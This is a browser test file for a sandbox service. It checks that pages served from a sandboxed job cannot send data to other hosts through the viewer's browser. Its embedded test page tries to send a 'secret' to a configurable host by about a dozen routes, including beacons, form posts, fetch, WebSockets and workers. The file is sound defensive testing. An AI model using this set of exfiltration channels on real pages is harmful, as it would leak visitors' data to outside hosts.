// A sandbox has one way out, and the browser of whoever looks at its pages is not another one.

import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "../fixtures";

/** A page that tries to tell another host something, in every way in which a browser fetches. */
const TELLING = `<!doctype html><title>Telling</title><ul id=list></ul>
<iframe name=hidden></iframe><form method=post target=hidden><input name=a value=secret></form><script>
  const to = new URLSearchParams(location.search).get("to");
  const say = (what, how) => { const line = document.createElement("li"); line.textContent = what + ": " + how; list.append(line); };
  const element = (name, fields) => new Promise((done, fail) => {
    const made = Object.assign(document.createElement(name), fields, { onload: done, onerror: fail });
    document.body.append(made);
  });
  const attempt = async (what, act) => { try { await act(); say(what, "done"); } catch { say(what, "failed"); } };
  (async () => {
    await attempt("own", async () => { if (!(await fetch("/index.html")).ok) throw 0; });
    navigator.sendBeacon(to + "/beacon", "secret");
    Object.assign(document.forms[0], { action: to + "/form" }).submit();
    await attempt("fetch", () => fetch(to + "/fetch", { method: "POST", mode: "no-cors", body: "secret" }));
    await attempt("image", () => element("img", { src: to + "/image" }));
    await attempt("script", () => element("script", { src: to + "/script" }));
    await attempt("style", () => element("link", { rel: "stylesheet", href: to + "/style" }));
    await attempt("preload", () => element("link", { rel: "preload", as: "image", href: to + "/preload" }));
    await attempt("socket", () => new Promise((done, fail) => { const s = new WebSocket(to.replace("http", "ws") + "/socket"); s.onopen = done; s.onerror = fail; }));
    await attempt("events", () => new Promise((done, fail) => { const s = new EventSource(to + "/events"); s.onopen = done; s.onerror = fail; }));
    await attempt("worker", () => new Promise((done, fail) => {
      const code = "fetch('" + to + "/worker', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))";
      new Worker(URL.createObjectURL(new Blob([code]))).onmessage = ({ data }) => (data ? done() : fail());
    }));
    await attempt("service worker", () => navigator.serviceWorker.register("/worker.js"));
    say("end", "done");
  })();
</script>`;

test("a page of a sandbox tells other hosts nothing through its viewer's browser", async ({ page, server }) => {
  const heard: string[] = [];
  const other = createServer((request, response) => {
    heard.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*").end();
  });
  other.on("upgrade", (request, socket) => { heard.push(request.url ?? ""); socket.destroy(); });
  other.listen(0, "localhost");
  await once(other, "listening");
  const id = await server.schedule({
    files: [{ path: "site/index.html", content: TELLING }, { path: "site/worker.js", content: "" }],
    steps: [
      { tool: "shell", session: "web", command: "python3 -m http.server 8123 -d site", wait_for: { port: 8123 } },
      { tool: "shell", command: "until test -e enough.txt; do sleep 0.2; done" },
    ],
  });
  await page.goto(`${server.url}/watch/${id}#apps`);
  await expect(page.frameLocator("iframe").getByText("end: done")).toBeVisible();
  const to = `http://localhost:${(other.address() as AddressInfo).port}`;
  // Within the job's page, and in a tab of its own.
  for (const open of [
    async () => {
      await page.getByLabel("Path").fill(`/?to=${encodeURIComponent(to)}`);
      await page.getByLabel("Path").press("Enter");
      return page.frameLocator("iframe");
    },
    async () => {
      const tab = page.context().waitForEvent("page");
      await page.getByRole("link", { name: "Open in a tab of its own" }).click();
      return tab;
    },
  ]) {
    const shown = await open();
    await expect(shown.getByText("end: done")).toBeVisible();
    const lines = await shown.locator("li").allTextContents();
    expect(lines.filter((line) => line.endsWith("done"))).toEqual(["own: done", "end: done"]);
  }
  expect(heard).toEqual([]);
  other.close();
  await server.put(id, "enough.txt");
  await server.ended(id);
});
